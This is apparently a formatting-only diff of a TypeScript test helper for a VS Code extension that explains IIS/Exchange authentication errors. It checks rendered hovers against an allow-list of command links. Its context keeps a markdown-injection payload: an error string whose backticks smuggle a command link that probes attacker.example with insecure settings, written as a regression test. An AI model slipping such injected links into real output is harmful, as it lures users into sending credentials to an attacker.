@@ -8,8 +8,9 @@ import { createRequire } from 'node:module';
 const PROBE_ARGS = encodeURIComponent(JSON.stringify([{ url: 'https://attacker.example/EWS/mrsproxy.svc', user: 'CONTOSO\\mrsadmin', insecure: true }]));
 export const EVIL_LINK = `[Re-check now](command:iisAuthLens.probeMrsEndpoint?${PROBE_ARGS})`;
 /** Issue 12, verbatim in shape: a backtick closes the hover's inline code, the link follows, a backtick reopens. */
-export const EXPLOIT_TEXT = 'The call to \'https://mail.contoso.com/EWS/mrsproxy.svc\' failed. Error details: ' +
-  'The HTTP request is unauthorized with client authentication scheme \'Negotiate\'. ' +
+export const EXPLOIT_TEXT =
+  "The call to 'https://mail.contoso.com/EWS/mrsproxy.svc' failed. Error details: " +
+  "The HTTP request is unauthorized with client authentication scheme 'Negotiate'. " +
   `The authentication header received from the server was 'x\` ${EVIL_LINK}\` \`y'. ` +
   '--> The remote server returned an error: (401) Unauthorized.';
 
@@ -30,7 +31,29 @@ export function renderMarkdown(src: string): string {
 }
 
 /** Elements our builders produce; anything else came from a document. */
-const OUR_TAGS = new Set(['p', 'strong', 'em', 'code', 'pre', 'a', 'ul', 'ol', 'li', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'h1', 'h2', 'h3', 'blockquote']);
+const OUR_TAGS = new Set([
+  'p',
+  'strong',
+  'em',
+  'code',
+  'pre',
+  'a',
+  'ul',
+  'ol',
+  'li',
+  'hr',
+  'br',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'h1',
+  'h2',
+  'h3',
+  'blockquote',
+]);
 
 /** The links a server-built hover may carry: our command and the labels we give them. */
 export interface AllowedLink {
@@ -41,12 +64,20 @@ export interface AllowedLink {
 }
 
 export const SERVER_LINKS: AllowedLink[] = [
-  { command: 'iisAuthLens.probeMrsEndpoint', label: 'Probe this endpoint', args: (a) => a.length === 1 && typeof a[0] === 'string' && /^https?:\/\//.test(a[0]) },
+  {
+    command: 'iisAuthLens.probeMrsEndpoint',
+    label: 'Probe this endpoint',
+    args: (a) => a.length === 1 && typeof a[0] === 'string' && /^https?:\/\//.test(a[0]),
+  },
   { command: 'iisAuthLens.findMatchingIisLines', label: 'Find matching IIS log lines', args: (a) => a.length === 1 && isErrorTextArgs(a[0]) },
   { command: 'iisAuthLens.explainError', label: 'Explain in a document', args: (a) => a.length === 1 && isErrorTextArgs(a[0]) },
   { command: 'iisAuthLens.copyRemediation', label: 'Copy', args: (a) => a.length === 1 && typeof a[0] === 'string' },
   { command: 'iisAuthLens.decodeAuthorizationHeader', label: 'Decode in a document', args: (a) => a.length === 1 && typeof a[0] === 'string' },
-  { command: 'iisAuthLens.checkChannelBindings', label: 'Check channel bindings against a certificate…', args: (a) => a.length === 1 && typeof a[0] === 'string' },
+  {
+    command: 'iisAuthLens.checkChannelBindings',
+    label: 'Check channel bindings against a certificate…',
+    args: (a) => a.length === 1 && typeof a[0] === 'string',
+  },
 ];
 
 function isErrorTextArgs(a: unknown): boolean {
@@ -69,7 +100,9 @@ function decodeEntities(s: string): string {
 
 /** The text a reader sees: tags dropped, entities decoded, white space folded. */
 export function visibleText(html: string): string {
-  return decodeEntities(html.replace(/<[^>]*>/g, ' ')).replace(/\s+/g, ' ').trim();
+  return decodeEntities(html.replace(/<[^>]*>/g, ' '))
+    .replace(/\s+/g, ' ')
+    .trim();
 }
 
 export interface Verdict {
